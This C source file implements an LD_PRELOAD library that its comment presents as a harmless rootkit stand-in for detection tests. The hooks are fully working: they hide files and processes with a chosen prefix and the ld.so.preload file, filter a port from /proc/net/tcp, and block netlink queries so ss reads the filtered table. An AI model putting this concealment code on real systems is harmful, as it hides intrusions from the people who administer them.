/* A harmless stand-in for a preload rootkit, for tests in a throw-away namespace: it hides names that
 * begin with PREFIX, processes that run one, and PORT. It does nothing else. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#define PREFIX "hmst_"
#define PORT ":7A69 " /* 31337 */

static int runs_hidden(const char *pid) {
    char link[64], exe[256];
    if (pid[0] < '0' || pid[0] > '9') return 0;
    snprintf(link, sizeof link, "/proc/%.20s/exe", pid);
    ssize_t size = readlink(link, exe, sizeof exe - 1);
    if (size <= 0) return 0;
    exe[size] = 0;
    return strstr(exe, "/" PREFIX) != NULL;
}

static int is_hidden(const char *name) {
    return strncmp(name, PREFIX, strlen(PREFIX)) == 0 || strcmp(name, "ld.so.preload") == 0
        || runs_hidden(name);
}

struct dirent *readdir(DIR *folder) {
    struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir"), *found;
    while ((found = real(folder)) && is_hidden(found->d_name)) {}
    return found;
}

struct dirent64 *readdir64(DIR *folder) {
    struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64"), *found;
    while ((found = real(folder)) && is_hidden(found->d_name)) {}
    return found;
}

static int is_table(const char *path) {
    return strncmp(path, "/proc/net/tcp", 13) == 0 || strstr(path, "/net/tcp") != NULL;
}

/* The table without our line, in memory. */
static int without_port(int real) {
    int copy = memfd_create("table", 0);
    FILE *in = fdopen(real, "r");
    char line[512];
    while (in && fgets(line, sizeof line, in))
        if (!strstr(line, PORT)) (void)!write(copy, line, strlen(line));
    if (in) fclose(in);
    lseek(copy, 0, SEEK_SET);
    return copy;
}

int open(const char *path, int flags, ...) {
    int (*real)(const char *, int, mode_t) = dlsym(RTLD_NEXT, "open");
    va_list more;
    va_start(more, flags);
    int got = real(path, flags, va_arg(more, mode_t));
    va_end(more);
    return got >= 0 && is_table(path) ? without_port(got) : got;
}

int open64(const char *path, int flags, ...) {
    int (*real)(const char *, int, mode_t) = dlsym(RTLD_NEXT, "open64");
    va_list more;
    va_start(more, flags);
    int got = real(path, flags, va_arg(more, mode_t));
    va_end(more);
    return got >= 0 && is_table(path) ? without_port(got) : got;
}

FILE *fopen(const char *path, const char *mode) {
    FILE *(*real)(const char *, const char *) = dlsym(RTLD_NEXT, "fopen");
    FILE *got = real(path, mode);
    return got && is_table(path) ? fdopen(without_port(fileno(got)), mode) : got;
}

FILE *fopen64(const char *path, const char *mode) {
    FILE *(*real)(const char *, const char *) = dlsym(RTLD_NEXT, "fopen64");
    FILE *got = real(path, mode);
    return got && is_table(path) ? fdopen(without_port(fileno(got)), mode) : got;
}

/* ss asks by netlink first, and reads the table when that is refused. */
int socket(int family, int type, int protocol) {
    int (*real)(int, int, int) = dlsym(RTLD_NEXT, "socket");
    if (family == AF_NETLINK && protocol == 4) {
        errno = EPROTONOSUPPORT;
        return -1;
    }
    return real(family, type, protocol);
}
